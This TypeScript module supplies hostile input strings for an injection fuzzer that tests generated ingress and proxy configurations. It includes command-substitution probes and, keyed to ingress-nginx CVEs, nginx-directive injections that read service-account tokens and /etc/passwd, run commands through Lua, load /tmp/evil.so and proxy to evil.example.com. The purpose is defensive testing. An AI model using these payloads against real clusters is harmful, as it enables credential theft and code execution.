/**
 * Hostile strings for the injection fuzzer: every character class the issue names (quotes,
 * backslashes, `;`, braces, `#`, CR/LF, `$variables`, backticks, `%`-escapes, spaces, NUL,
 * non-ASCII, very long strings) and the literal inputs of the ingress-nginx CVEs (each also a
 * fixture in fixtures/cve/), as data (they are placed into manifests as values, never
 * as YAML syntax, except by the raw-text mutator).
 */

/** Single characters that mean something in at least one output language. */
export const SPECIAL_CHARS: readonly string[] = [
  '"', "'", '\\', ';', '{', '}', '#', '\n', '\r', '\t', '\v', '\f', '\0', '\u0007', '\u001b', '\u007f', '\u0085',
  '$', '`', '%', ' ', '(', ')', '[', ']', '|', '&', ',', ':', '=', '@', '!', '?', '*', '^', '~', '<', '>', '+',
  '/', '.', '-', '_',
  '\u00e9', '\u00a0', '\u2028', '\u2029', '\u200b', '\ufeff', '\u0130', '\u212a', '\uff0f', '\ud83d\ude00', '\ud800',
];

/** Whole payload strings, each tried in every string field. */
export const PAYLOADS: readonly string[] = [
  // quoting and statement terminators
  '"', "'", '\\', '\\"', '";', "';", ';', '{', '}', '};', '#', '# x', '\n', '\r', '\r\n', '\0', ' ', '\t',
  // variables and template syntax of every target
  '$host', '${host}', '$ingressc_upstream', '$ingressc_dns_0', '$(id)', '`id`', '{{ .Values }}', '%[req.hdr(host)]', '%REQ(:AUTHORITY)%', '%{http_host}',
  '"${x}"', 'env(HOME)', '%2f', '%2F', '%00', '%0a', '%0d%0a', '%25', '%',
  // structure breakers per format
  '"}, "cluster": "evil"', "': {}", ': x', '- x', '&a', '*a', '!!js/function', '? x', '| x', '> x', '---', '...',
  '`) || Host(`evil.example', '") || Host("evil.example', '\\") || PathPrefix("/', 'a b', 'a\tb', ' http-request deny',
  '\nuse_backend evil', '\nbackend evil', '},{', ']]',
  // path oddities
  '/..', '/.', '/../', '/./', '//', '/%2e%2e/', '/a?b=c', '/a#frag', '/a;b', '/*', '/~', '/.well-known',
  // non-ASCII, invisible and lookalike
  '\u00e9', '\u65e5\u672c', '\u2028', '\u2029', '\u200b', '\ufeff', '\u0130', '\u212a', '\uff0f', '\ud83d\ude00', '\ud800', '\udfff',
  'xn--80ak6aa92e', 'EXAMPLE.COM', 'Example.com',
  // very long
  'a'.repeat(64), 'a'.repeat(254), 'a'.repeat(4097), '/'.repeat(300), '/a'.repeat(2100),
];

/**
 * The concrete inputs behind the ingress-nginx CVEs of peers.md §3 (the field each went into is
 * in cve-fixtures; here they are payloads for every field).
 */
export const CVE_PAYLOADS: Readonly<Record<string, string>> = {
  'CVE-2021-25742': 'more_set_headers "X: $request_uri";\nlocation /x { alias /var/run/secrets/kubernetes.io/serviceaccount/; }',
  'CVE-2021-25745': '/var/run/secrets/kubernetes.io/serviceaccount/token',
  'CVE-2021-25746': 'true;\n  alias /etc/passwd;',
  'CVE-2021-25748': '/x\n    alias /var/run/secrets/kubernetes.io/serviceaccount/;\n#',
  'CVE-2022-4886': '/x { } location ~* ^/y { root /; } location /z',
  'CVE-2023-5043': 'content_by_lua_block { os.execute("id") }',
  'CVE-2023-5044': 'https://example.com/;\n  return 200 "pwned";\n#',
  'CVE-2025-24513': '../../../../etc/passwd',
  'CVE-2025-24514': 'http://auth.example.com/#;}}}\n\nssl_engine /tmp/evil.so;\n#',
  'CVE-2025-1097': 'CN=abc#(\n){}\n }}}}\n\nssl_engine foobar;\n#',
  'CVE-2025-1098': 'https://mirror.example.com;\nssl_engine /tmp/evil.so;\n#',
  'CVE-2025-15566': "X-Evil' 'v';\nssl_engine x;\n#",
  'CVE-2026-1580': 'GET;\nproxy_pass http://evil.example.com;\n#',
  'CVE-2026-24512': '/a" { return 200 "pwned"; } location = "/b',
  'CVE-2026-3288': '/a;\n rewrite ^ http://evil.example.com permanent;',
  'CVE-2026-4342': '/x\n## end auth upstream\nlocation / { return 200; }\n##',
};

export const ALL_PAYLOADS: readonly string[] = [...PAYLOADS, ...Object.values(CVE_PAYLOADS)];
